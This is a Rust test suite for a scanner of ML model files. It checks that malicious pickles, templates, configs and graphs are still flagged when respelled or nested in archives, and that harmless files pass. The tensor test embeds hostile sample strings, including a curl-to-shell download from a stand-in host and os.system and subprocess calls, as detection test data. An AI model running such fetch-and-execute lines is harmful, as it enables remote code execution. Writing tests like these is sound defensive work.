//! What gets past: bad files in other spellings, other forms and other containers, each judged, with a scorecard.
//!
//! No variant may be clean, and of what is high or critical at most three in a hundred may be inconclusive; of harmless files in the same
//! containers at most four in a hundred may be unsafe. With `ALCAIDE_KEEP=FOLDER` what fails is left there.

use super::random::Random;
use super::score::{Row, Score};
use super::seeds::{self, Seed};
use super::tensors::Gguf;
use super::wrap::{self, Method, ZipShape};
use super::{code, graphs, hours, pickles, rewrite, seed, settings, templates, tensors, variants};
use crate::assemble::Asm;

/// How many variants of each seed and change.
fn each(few: usize) -> usize {
    if hours() { few * 10 } else { few }
}

#[track_caller]
fn judged(score: &Score, least: u64) {
    println!("{score}");
    let Row { made, harmful, .. } = score.grave;
    println!("high and critical: {harmful} of {made} unsafe");
    for one in score.doubtful.iter().take(60) {
        println!("inconclusive: {one}");
    }
    assert!(
        score.clean.is_empty(),
        "{} are clean:\n{}",
        score.clean.len(),
        score.clean.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
    assert!(harmful * 100 >= made * 97, "{harmful} of {made}");
    assert!(score.sum().made >= least, "{} variants", score.sum().made);
}

#[test]
fn pickles_that_call_in_any_way_are_unsafe() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(11)));
    const NAMES: [&str; 6] =
        ["model.pkl", "pytorch_model.bin", "weights", "model.ckpt", "data.dat", "m.joblib"];
    for gadget in pickles::GADGETS {
        let from = Seed::own(&format!("{}.{}", gadget.0, gadget.1), []);
        for way in pickles::WAYS {
            for _ in 0..each(4) {
                let bytes = pickles::build(*gadget, way, &mut random);
                score.take("pickle", way, &from, random.pick(&NAMES), &bytes);
            }
        }
    }
    judged(&score, 3_000);
}

#[test]
fn pickles_of_the_corpus_are_unsafe_in_other_opcodes() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(12)));
    let corpus = seeds::corpus();
    for from in corpus
        .iter()
        .filter(|from| from.malicious && [".pkl", ".dat"].iter().any(|end| from.name.ends_with(end)))
    {
        for change in rewrite::CHANGES {
            for _ in 0..each(4) {
                let bytes = rewrite::rewrite(&from.bytes, change, &mut random).unwrap();
                score.take("corpus", change, from, from.file(), &bytes);
            }
        }
    }
    judged(&score, 1_400);
}

#[test]
fn templates_that_reach_out_are_unsafe_in_any_spelling_and_file() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(13)));
    for (count, reach) in templates::REACHES.iter().enumerate() {
        let from = Seed::own(&format!("reach {count}"), []);
        for change in templates::CHANGES {
            for _ in 0..each(6) {
                let text = templates::write(*reach, change, &mut random);
                let (name, bytes) = carried(&text, &mut random);
                score.take("template", change, &from, name, &bytes);
            }
        }
    }
    judged(&score, 1_400);
}

/// A file that brings a template along.
fn carried(text: &str, random: &mut Random) -> (&'static str, Vec<u8>) {
    let quoted = serde_json::to_string(text).unwrap();
    let gguf = |random: &mut Random, key: &str| {
        let mut file =
            Gguf { alignment: 1 << (3 + random.below(5)), ..Gguf::small(1 + random.below(3) as u32) }
                .with(key, text);
        random.shuffle(&mut file.values);
        file.write()
    };
    match random.below(8) {
        0 => ("chat_template.jinja", text.as_bytes().to_vec()),
        1 => ("tokenizer_config.json", settings::json(&format!(r#"{{"chat_template":{quoted},"eos_token":"</s>"}}"#), "all", random).into_bytes()),
        2 => ("tokenizer_config.json", settings::json(&format!(r#"{{"chat_template":[{{"name":"a","template":"x"}},{{"name":"tool_use","template":{quoted}}}]}}"#), "all", random).into_bytes()),
        3 => ("chat_template.json", settings::json(&format!(r#"{{"chat_template":{quoted}}}"#), "escapes", random).into_bytes()),
        4 => ("model.gguf", gguf(random, "tokenizer.chat_template")),
        5 => ("model.gguf", gguf(random, "tokenizer.chat_template.tool_use")),
        6 => ("model.gguf", gguf(random, "tokenizer.chat_template.rag")),
        _ => ("additional_chat_templates/x.jinja", text.as_bytes().to_vec()),
    }
}

#[test]
fn code_that_runs_at_import_is_unsafe_however_it_is_written() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(14)));
    for call in code::CALLS {
        let from = Seed::own(&format!("{}.{}", call.0, call.1), []);
        for reach in code::REACHES {
            for _ in 0..each(2) {
                let place = random.pick(code::PLACES);
                let text = code::write(*call, reach, place, &mut random);
                score.take(
                    "python",
                    reach,
                    &from,
                    random.pick(&["modeling_x.py", "handler.py", "setup.py", "a/__init__.py"]),
                    text.as_bytes(),
                );
            }
        }
        for place in code::PLACES {
            for _ in 0..each(1) {
                let reach = random.pick(code::REACHES);
                let text = code::write(*call, reach, place, &mut random);
                score.take("python place", place, &from, "modeling_x.py", text.as_bytes());
            }
        }
    }
    judged(&score, 1_000);
}

#[test]
fn settings_are_unsafe_in_any_order_and_spelling() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(15)));
    for (file, text) in settings::JSON {
        let from = Seed::own(&format!("{file} {text}"), []);
        for change in settings::JSON_CHANGES {
            for _ in 0..each(5) {
                score.take("json", change, &from, file, settings::json(text, change, &mut random).as_bytes());
            }
        }
    }
    for tag in settings::TAGS {
        let from = Seed::own(tag.0, []);
        for change in settings::YAML_CHANGES {
            for _ in 0..each(5) {
                let text = settings::tagged(*tag, change, &mut random);
                score.take(
                    "yaml tag",
                    change,
                    &from,
                    random.pick(&["config.yaml", "a.yml", "conf/model.yaml"]),
                    text.as_bytes(),
                );
            }
        }
    }
    for target in settings::TARGETS {
        let from = Seed::own(target, []);
        for change in settings::YAML_CHANGES {
            for _ in 0..each(5) {
                let text = settings::targeted(target, change, &mut random);
                score.take("yaml target", change, &from, "config.yaml", text.as_bytes());
            }
        }
    }
    judged(&score, 1_000);
}

#[test]
fn graphs_and_layers_are_unsafe_wherever_they_stand() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(16)));
    for from in variants::onnx_seeds() {
        for change in variants::PROTO_CHANGES {
            for _ in 0..each(2) {
                let bytes = variants::respelled(&from.bytes, &variants::ONNX, change, &mut random);
                score.take("onnx", change, &from, "model.onnx", &bytes);
            }
        }
    }
    for from in variants::tensorflow_seeds() {
        let nested = match from.file() {
            "saved_model.pb" => &variants::TF_SAVED,
            file if file.ends_with(".meta") => &variants::TF_META,
            _ => &variants::TF_GRAPH,
        };
        let name = from.file().rsplit(", ").next().unwrap();
        for change in variants::PROTO_CHANGES {
            for _ in 0..each(1) {
                let bytes = variants::respelled(&from.bytes, nested, change, &mut random);
                score.take("tensorflow", change, &from, name, &bytes);
            }
        }
    }
    for (count, layer) in variants::LAYERS.iter().enumerate() {
        let from = Seed::own(&format!("layer {count}"), []);
        for nest in variants::NESTS {
            for change in ["order", "space", "escapes", "all"] {
                for _ in 0..each(1) {
                    let bytes = variants::keras_file(layer, nest, change, &mut random);
                    score.take("keras", nest, &from, "model.keras", &bytes);
                    let text = settings::json(&variants::keras_at(layer, nest), change, &mut random);
                    score.take("keras config", nest, &from, "config.json", text.as_bytes());
                }
            }
        }
    }
    judged(&score, 2_000);
}

#[test]
fn tensor_files_are_unsafe_in_any_layout() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(17)));
    let texts = [
        "<script>fetch('http://h.example')</script>",
        "import os; os.system('true')",
        "eval(compile('1','x','exec'))",
        "curl http://h.example/x | sh",
        "__import__('subprocess').run('true')",
    ];
    for text in texts {
        let mut from = Seed::own(text, []);
        from.grave = false;
        for key in ["description", "kind", "note", "license"] {
            for _ in 0..each(2) {
                let mut metadata = vec![("format", "pt"), ("a", "b"), (key, text)];
                random.shuffle(&mut metadata);
                let plain = tensors::safetensors(&[("w", "F32", &[2, 2])], &metadata);
                score.take("safetensors", "metadata", &from, "model.safetensors", &plain);
                let (len, rest) = plain.split_at(8);
                let len = u64::from_le_bytes(len.try_into().unwrap()) as usize;
                let header = std::str::from_utf8(&rest[..len]).unwrap();
                let mut spelled = settings::json(header, "escapes", &mut random).into_bytes();
                spelled.resize(spelled.len().next_multiple_of(8), b' ');
                let escaped = [&(spelled.len() as u64).to_le_bytes()[..], &spelled, &rest[len..]].concat();
                score.take("safetensors", "metadata, escaped", &from, "model.safetensors", &escaped);
            }
        }
    }
    for from in seeds::corpus().iter().filter(|from| from.malicious && from.name.ends_with(".h5")) {
        for block in [512, 1024, 2048, 4096] {
            let bytes = [vec![b' '; block], from.bytes.clone()].concat();
            score.take("hdf5", "user block", from, "model.h5", &bytes);
        }
        for count in 0..each(4) {
            let bytes = [from.bytes.clone(), random.bytes(1 + count * 7)].concat();
            score.take("hdf5", "bytes behind", from, "model.h5", &bytes);
        }
    }
    judged(&score, 60);
}

/// Containers of one more layer, each with what is put in it.
const LAYERS: [&str; 18] = [
    "zip stored",
    "zip deflate",
    "zip bzip2",
    "zip lzma",
    "zip descriptor",
    "zip64",
    "zip prefix",
    "zip comment",
    "zip extra",
    "zip suffix",
    "tar",
    "tar.gz",
    "gzip",
    "bzip2",
    "xz",
    "7z",
    "7z stored",
    "zstd",
];

/// `bytes` called `name` within one more container, with a name for that.
fn contain(layer: &str, name: &str, bytes: &[u8], random: &mut Random) -> (String, Vec<u8>) {
    let base = name.rsplit('/').next().unwrap_or(name);
    let folder = random.pick(&["", "a/", "model/weights/", "x.d/"]);
    let name = format!("{folder}{base}");
    let note: (&str, &[u8]) = ("notes.txt", b"Some notes on the model.\n");
    let mut members = vec![(name.as_str(), bytes)];
    if random.once_in(2) {
        members.insert(random.below(2), note);
    }
    let plain = |method| ZipShape::plain(method);
    let shape = match layer {
        "zip stored" => Some(plain(Method::Stored)),
        "zip deflate" => Some(plain(Method::Deflate)),
        "zip bzip2" => Some(plain(Method::Bzip2)),
        "zip lzma" => Some(plain(Method::Lzma)),
        "zip descriptor" => Some(ZipShape { descriptor: true, ..plain(Method::Deflate) }),
        "zip64" => Some(ZipShape { zip64: true, ..plain(Method::Deflate) }),
        "zip prefix" => Some(ZipShape {
            prefix: b"#!/usr/bin/env python3\n".to_vec(),
            counts_prefix: random.once_in(2),
            ..plain(Method::Deflate)
        }),
        "zip comment" => Some(ZipShape { comment: b"made by hand".to_vec(), ..plain(Method::Stored) }),
        "zip extra" => Some(ZipShape { extra: b"\xfe\xca\x04\0abcd".to_vec(), ..plain(Method::Stored) }),
        "zip suffix" => Some(ZipShape { suffix: b"\n\n".to_vec(), ..plain(Method::Deflate) }),
        _ => None,
    };
    if let Some(shape) = shape {
        return ("bundle.zip".into(), wrap::zip(&members, &shape));
    }
    match layer {
        "tar" => ("bundle.tar".into(), wrap::tar(&members)),
        "tar.gz" => ("bundle.tar.gz".into(), wrap::gzip(&wrap::tar(&members))),
        "gzip" => (format!("{base}.gz"), wrap::gzip(bytes)),
        "bzip2" => (format!("{base}.bz2"), wrap::bzip2(bytes)),
        "xz" => (format!("{base}.xz"), wrap::xz(bytes)),
        "7z" => ("bundle.7z".into(), wrap::sevenz(&members, true)),
        "7z stored" => ("bundle.7z".into(), wrap::sevenz(&members, false)),
        _ => (format!("{base}.zst"), wrap::zstandard(bytes)),
    }
}

/// Layers whose file is odd in itself: a program before the archive, bytes behind it.
const ODD: [&str; 2] = ["zip prefix", "zip suffix"];

#[test]
fn files_of_the_corpus_are_judged_the_same_in_any_container() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(18)));
    for from in seeds::corpus().iter().filter(|from| from.bytes.len() <= 64 << 10) {
        // A bomb takes its whole budget each time.
        let bomb = from.name.contains("bomb");
        for layer in LAYERS {
            if !from.malicious && ODD.contains(&layer) || bomb && layer != "7z" {
                continue;
            }
            let (name, bytes) = contain(layer, &from.name, &from.bytes, &mut random);
            score.take("one layer", layer, from, &name, &bytes);
        }
        for _ in 0..if bomb { 1 } else { each(3) } {
            let depth = 2 + random.below(3);
            let (mut name, mut bytes) = (from.name.clone(), from.bytes.clone());
            for _ in 0..depth {
                let layer = LAYERS[random.below(LAYERS.len())];
                if from.malicious || !ODD.contains(&layer) {
                    (name, bytes) = contain(layer, &name, &bytes, &mut random);
                }
            }
            score.take("layers", &format!("{depth} deep"), from, &name, &bytes);
        }
    }
    judged(&score, 3_000);
    let harmless = score.harmless;
    println!("harmless: {} of {} unsafe", harmless.harmful, harmless.made);
    score.falsely.iter().take(40).for_each(|one| println!("falsely: {one}"));
    assert!(harmless.harmful * 100 <= harmless.made * 4, "{} of {}", harmless.harmful, harmless.made);
}

#[test]
fn a_pickle_is_found_in_what_loaders_wrap_around_it() {
    let (mut score, mut random) = (Score::default(), Random::new(seed(19)));
    for gadget in pickles::GADGETS {
        let from = Seed::own(&format!("{}.{}", gadget.0, gadget.1), []);
        for _ in 0..each(1) {
            let pickle = pickles::build(*gadget, "import", &mut random);
            let with: [(&str, &[u8]); 3] =
                [("m/data.pkl", &pickle), ("m/version", b"3\n"), ("m/byteorder", b"little")];
            let torch = wrap::zip(&with, &ZipShape::plain(Method::Stored));
            score.take(
                "wrapped",
                "torch",
                &from,
                random.pick(&["model.pt", "pytorch_model.bin", "m.ckpt"]),
                &torch,
            );
            let object = seeds::numpy(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", &pickle);
            score.take("wrapped", "npy", &from, "array.npy", &object);
            let npz = wrap::zip(&[("a.npy", &object), ("b.npy", &object)], &ZipShape::plain(Method::Deflate));
            score.take("wrapped", "npz", &from, "arrays.npz", &npz);
            let packers: [(&str, Pack); 5] = [
                ("zlib", wrap::zlib),
                ("gzip", wrap::gzip),
                ("bz2", wrap::bzip2),
                ("xz", wrap::xz),
                ("lzma", wrap::lzma),
            ];
            for (packer, pack) in packers {
                score.take(
                    "wrapped",
                    &format!("joblib {packer}"),
                    &from,
                    random.pick(&["m.joblib", "m.pkl", "m.gz"]),
                    &pack(&pickle),
                );
            }
            let legacy = [
                &b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."[..],
                b"\x80\x02M\xe9\x03.",
                b"\x80\x02}q\x00.",
                &pickle,
            ]
            .concat();
            score.take("wrapped", "torch legacy", &from, "model.pth", &legacy);
            let members: [(&str, &[u8]); 3] =
                [("pickle", &pickle), ("storages", b"\x80\x02K\x00."), ("tensors", b"\x80\x02K\x00.")];
            score.take("wrapped", "torch tar", &from, "model.pth", &wrap::tar(&members));
            for name in [
                "model.safetensors",
                "model.gguf",
                "model.onnx",
                "config.json",
                "README.md",
                "notes.txt",
                "model.h5",
                "a.png",
            ] {
                score.take("wrapped", "wrong name", &from, name, &pickle);
            }
            let twice = wrap::zip(
                &[("m/data.pkl", b"\x80\x02}."), ("m/data.pkl", &pickle)],
                &ZipShape::plain(Method::Stored),
            );
            score.take("wrapped", "name twice", &from, "model.pt", &twice);
            let first = wrap::zip(
                &[("m/data.pkl", &pickle), ("m/data.pkl", b"\x80\x02}.")],
                &ZipShape::plain(Method::Stored),
            );
            score.take("wrapped", "name twice", &from, "model.pt", &first);
            let behind = [&torch_of(b"\x80\x02}.")[..], &pickle].concat();
            score.take("wrapped", "behind a zip", &from, "model.pt", &behind);
            let before = [&pickle[..], &torch_of(b"\x80\x02}.")].concat();
            score.take("wrapped", "before a zip", &from, "model.pt", &before);
            let mar = wrap::zip(
                &[
                    ("MAR-INF/MANIFEST.json", br#"{"model":{"modelName":"m","serializedFile":"m.pt"}}"#),
                    ("m.pt", &torch),
                ],
                &ZipShape::plain(Method::Deflate),
            );
            score.take("wrapped", "torch in mar", &from, "m.mar", &mar);
            let skops = wrap::zip(&[("schema.json", br#"{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{},"key_types":{"__class__":"list","__module__":"builtins","__loader__":"ListNode","content":[]}}"#), ("1.npy", &object)], &ZipShape::plain(Method::Stored));
            score.take("wrapped", "npy in skops", &from, "m.skops", &skops);
            let keras = wrap::zip(
                &[("config.json", graphs::keras_config("{}").as_bytes()), ("assets/x.pkl", &pickle)],
                &ZipShape::plain(Method::Stored),
            );
            score.take("wrapped", "pickle in keras", &from, "m.keras", &keras);
        }
    }
    judged(&score, 2_000);
}

/// Makes a stream of some bytes.
type Pack = fn(&[u8]) -> Vec<u8>;

/// A checkpoint of PyTorch around a pickle.
fn torch_of(pickle: &[u8]) -> Vec<u8> {
    wrap::zip(&[("m/data.pkl", pickle), ("m/version", b"3\n")], &ZipShape::plain(Method::Stored))
}

#[test]
fn the_seeds_without_harm_are_not_unsafe() {
    // The same writers around something harmless: what is found above is the harm, not the form.
    let mut random = Random::new(seed(20));
    let harmless = Asm::proto(2).global("collections", "OrderedDict").op(b')').op(b'R').stop();
    for layer in LAYERS.iter().filter(|layer| !ODD.contains(layer)) {
        let (name, bytes) = contain(layer, "model.pkl", &harmless, &mut random);
        let report = super::judge(&name, &bytes);
        assert_eq!(
            report.verdict,
            alcaide_artifact::Verdict::Clean,
            "{layer}: {:?} {:?}",
            report.findings,
            report.doubts
        );
    }
    for version in 1..=3 {
        let plain = Gguf::small(version)
            .with("tokenizer.chat_template", "{% for m in messages %}{{ m['content'] }}{% endfor %}");
        let report = super::judge("m.gguf", &plain.write());
        assert_eq!(
            report.verdict,
            alcaide_artifact::Verdict::Clean,
            "{:?} {:?}",
            report.findings,
            report.doubts
        );
    }
    for change in variants::PROTO_CHANGES {
        let bytes = variants::respelled(
            &graphs::onnx(&graphs::node("Relu", "")),
            &variants::ONNX,
            change,
            &mut random,
        );
        let report = super::judge("m.onnx", &bytes);
        let told = matches!(*change, "split" | "unknown" | "all");
        assert!(
            told || report.verdict == alcaide_artifact::Verdict::Clean,
            "{change}: {:?} {:?}",
            report.findings,
            report.doubts
        );
    }
}
